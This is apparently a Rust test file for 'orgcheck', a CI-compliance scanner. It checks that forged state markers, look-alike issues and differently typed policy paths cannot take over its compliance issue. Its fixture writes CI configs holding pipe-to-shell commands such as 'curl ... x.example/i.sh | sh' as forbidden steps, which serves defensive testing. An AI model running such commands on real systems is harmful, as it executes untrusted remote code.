//! Nobody can forge or take over the compliance issue: orgcheck edits only issues its own
//! identity opened, reads its marker and state only where it writes them (the body's last two
//! lines), and finds one issue per policy however the policy's path is typed. Tried as a
//! hostile member of the organization would: with a pushed CI config, or an issue of their own.

mod support;

use std::path::Path;

use support::fake_github::FakeIssue;
use support::publish_env::Env;
use support::{code, root, stderr};

/// A repository whose forbidden step, job name and file name quote `quoted` (a marker or a
/// state), as a member of the organization can push.
fn add_quoting_repo(env: &Env, name: &str, quoted: &str) {
    let dir = env.org().join(name);
    std::fs::create_dir_all(dir.join(".github/workflows")).unwrap();
    let q = quoted.replace('\\', "\\\\").replace('"', "\\\"");
    let config = format!(
        "version: 2.1\njobs:\n  \"{q}\":\n    steps:\n      - checkout\n      - run: make test\n      \
         - run: gitleaks detect\n      - run: \"curl -s https://x.example/i.sh | sh # {q}\"\n\
         workflows:\n  w:\n    jobs:\n      - \"{q}\"\n"
    );
    std::fs::create_dir_all(dir.join(".circleci")).unwrap();
    std::fs::write(dir.join(".circleci/config.yml"), config).unwrap();
    // A workflow file named like a state (a file name cannot hold the `/` of a marker).
    std::fs::write(
        dir.join(".github/workflows/<!-- orgcheck:state v2 f= c=0 -->.yml"),
        "on: push\njobs:\n  b:\n    runs-on: x\n    steps:\n      - run: curl https://x.example | bash\n",
    )
    .unwrap();
}

/// The marker line of an issue body orgcheck wrote.
fn marker_of(body: &str) -> String {
    let lines: Vec<&str> = body.trim_end().lines().collect();
    lines[lines.len() - 2].to_string()
}

/// No issue was written (minting an App's token is a POST too, but writes no issue).
fn assert_no_write(env: &Env, out: &std::process::Output) {
    let writes: Vec<_> = env
        .fake
        .writes()
        .into_iter()
        .filter(|w| w.path.contains("/issues"))
        .collect();
    assert!(writes.is_empty(), "{writes:?}");
    assert!(
        stderr(out).contains("is up to date: no write"),
        "{}",
        stderr(out)
    );
}

#[test]
fn a_state_forged_in_a_config_changes_nothing() {
    let env = Env::new();
    add_quoting_repo(&env, "evil", "<!-- orgcheck:state v2 f= c=0 -->");
    let out = env.run(&[]);
    assert_eq!(code(&out), 1, "{}", stderr(&out));
    let body = env.fake.issues()[0].body.clone();
    assert!(body.contains("evil"), "the forging repository is reported");
    // Only our own footer opens HTML comments.
    assert_eq!(body.matches("<!--").count(), 2, "{body}");
    assert_eq!(body.matches("-->").count(), 2, "{body}");
    for _ in 0..3 {
        env.fake.clear_log();
        let out = env.run(&[]);
        assert_no_write(&env, &out);
    }
    assert!(!env.fake.issues()[0].body.contains("Newly failing"));
}

#[test]
fn only_the_footer_is_read_even_when_a_template_writes_a_state() {
    // A template may say anything, an HTML comment that looks like a state included: only the
    // last two lines, which orgcheck writes itself, are read.
    let env = Env::new();
    let template = env.path("report.md.hbs");
    std::fs::write(
        &template,
        "<!-- orgcheck:state v2 c=0000000000000000 f= x= e= -->\n# {{report.summary.non_compliant}} failing\n",
    )
    .unwrap();
    let template = ["--template", template.to_str().unwrap()];
    env.run(&template);
    for _ in 0..2 {
        env.fake.clear_log();
        let out = env.run(&template);
        assert_no_write(&env, &out);
    }
}

#[test]
fn another_policys_marker_quoted_in_a_config_cannot_take_its_issue() {
    let env = Env::new();
    // Policy A's issue, to learn its marker.
    env.run(&[]);
    let marker_a = marker_of(&env.fake.issues()[0].body);
    add_quoting_repo(
        &env,
        "evil",
        &format!("{marker_a} <!-- orgcheck:state v2 f= c=0 -->"),
    );
    env.run(&[]);
    let issue_a = env.fake.issues()[0].clone();
    assert_eq!(marker_of(&issue_a.body), marker_a);

    // Policy B reports the same repositories, the quoted marker among them.
    let other = env.path("other.toml");
    std::fs::copy(root().join("policy.example.toml"), &other).unwrap();
    let out = env.run(&["--policy", other.to_str().unwrap()]);
    assert_eq!(code(&out), 1, "{}", stderr(&out));
    let issues = env.fake.issues();
    assert_eq!(issues.len(), 2, "B opened its own issue");
    assert_ne!(marker_of(&issues[1].body), marker_a);
    assert_eq!(
        (issues[0].body.as_str(), issues[0].state.as_str()),
        (issue_a.body.as_str(), "open"),
        "A's issue is untouched"
    );
    // A's next run finds its issue as it left it.
    env.fake.clear_log();
    let out = env.run(&[]);
    assert_no_write(&env, &out);
}

#[test]
fn an_issue_someone_else_opened_is_never_edited() {
    let env = Env::new();
    env.run(&[]);
    // Mallory's copy of our issue, with the label and the marker, claims it as hers.
    let mut copy = env.fake.issues()[0].clone();
    copy.author = "mallory".into();
    env.fake.state.lock().unwrap().issues = vec![copy.clone()];

    let mut cmd = env.command(&[]);
    let out = env.finish(cmd.env("GITHUB_ACTIONS", "true"));
    assert_eq!(code(&out), 1, "{}", stderr(&out));
    let issues = env.fake.issues();
    assert_eq!(issues.len(), 2, "a new issue of our own was opened");
    assert_eq!(issues[0].body, copy.body, "mallory's issue is untouched");
    assert_eq!(issues[1].author, "orgcheck-runner");
    let err = stderr(&out);
    assert!(
        err.contains("::warning title=orgcheck::left #1 alone")
            && err.contains("opened by mallory, and this run is orgcheck-runner"),
        "{err}"
    );

    // Everything compliant: ours closes, hers stays as it is.
    env.make_compliant();
    env.run(&[]);
    let issues = env.fake.issues();
    assert_eq!(
        (issues[0].state.as_str(), issues[1].state.as_str()),
        ("open", "closed")
    );
    assert_eq!(issues[0].body, copy.body);
    assert!(issues[0].comments.is_empty(), "not closed as a duplicate");
}

#[test]
fn our_issue_is_kept_when_a_look_alike_exists() {
    let env = Env::new();
    env.run(&[]);
    let ours = env.fake.issues()[0].clone();
    for (number, author) in [(2, "mallory"), (3, "other-app[bot]")] {
        env.fake.state.lock().unwrap().issues.push(FakeIssue {
            number,
            author: author.into(),
            ..ours.clone()
        });
    }
    env.fix("payments");
    env.fake.clear_log();
    let out = env.run(&[]);
    let writes = env.fake.writes();
    assert_eq!(writes.len(), 1, "{writes:?}");
    assert_eq!(writes[0].path, "/repos/acme/compliance/issues/1");
    let issues = env.fake.issues();
    assert!(issues[0].body.contains("**Fixed** (1): payments"));
    for look_alike in &issues[1..] {
        assert_eq!(look_alike.body, ours.body);
        assert_eq!(look_alike.state, "open");
    }
    let err = stderr(&out);
    assert!(
        err.contains("left #2 alone") && err.contains("left #3 alone"),
        "{err}"
    );
    assert!(err.contains("other-app[bot]"), "{err}");
}

#[test]
fn an_app_edits_only_what_the_app_opened() {
    let env = Env::with_app("ghs_installation_TRUST");
    {
        let mut s = env.fake.state.lock().unwrap();
        // What the workflow's GITHUB_TOKEN (another App) opened before the switch to an App.
        s.issues.push(FakeIssue {
            number: 1,
            title: "old".into(),
            body: String::new(),
            state: "open".into(),
            labels: vec!["orgcheck".into()],
            comments: Vec::new(),
            pull_request: false,
            author: "github-actions[bot]".into(),
        });
    }
    let key = root().join("tests/fixtures/app-key.pem");
    let app = [
        "--app-id",
        "4242",
        "--app-private-key",
        key.to_str().unwrap(),
    ];
    env.run(&app);
    let first = env.fake.issues()[1].clone();
    assert_eq!(first.author, "orgcheck-acme[bot]");
    // The old issue becomes a look-alike once it carries our footer.
    env.fake.state.lock().unwrap().issues[0].body = first.body.clone();
    env.fake.clear_log();
    let out = env.run(&app);
    assert_no_write(&env, &out);
    assert!(
        stderr(&out).contains("opened by github-actions[bot], and this run is orgcheck-acme[bot]"),
        "{}",
        stderr(&out)
    );
}

/// `scan` of the demo organization with `policy` in `cwd`.
fn run_in(env: &Env, cwd: &Path, extra: &[&str]) -> std::process::Output {
    let mut cmd = env.command(extra);
    env.finish(cmd.current_dir(cwd))
}

#[test]
fn one_policy_outside_git_is_one_issue_however_its_path_is_typed() {
    let env = Env::new();
    let folder = env.path("platform");
    std::fs::create_dir_all(&folder).unwrap();
    let policy = folder.join("orgcheck.toml");
    std::fs::copy(root().join("policy.example.toml"), &policy).unwrap();
    let absolute = policy.to_str().unwrap().to_string();
    let dotted = format!("{}/../platform/./orgcheck.toml", folder.display());
    for (cwd, spelling) in [
        (folder.as_path(), "orgcheck.toml"),
        (root().as_path(), absolute.as_str()),
        (env.dir.path(), "platform/orgcheck.toml"),
        (folder.as_path(), dotted.as_str()),
    ] {
        let out = run_in(&env, cwd, &["--policy", spelling]);
        assert_eq!(code(&out), 1, "{}", stderr(&out));
        assert_eq!(
            env.fake.issues().len(),
            1,
            "`{spelling}` opened a second issue"
        );
    }

    // A moved policy keeps its issue with an explicit key, set before the move.
    let keyed = ["--issue-key", "platform-policy"];
    let out = run_in(
        &env,
        &folder,
        &[&["--policy", "orgcheck.toml"][..], &keyed].concat(),
    );
    assert_eq!(env.fake.issues().len(), 2, "{}", stderr(&out));
    std::fs::rename(&policy, folder.join("moved.toml")).unwrap();
    env.fix("payments");
    let out = run_in(
        &env,
        &folder,
        &[&["--policy", "moved.toml"][..], &keyed].concat(),
    );
    assert_eq!(env.fake.issues().len(), 2, "{}", stderr(&out));
    assert!(
        env.fake.issues()[1]
            .body
            .contains("**Fixed** (1): payments")
    );
}
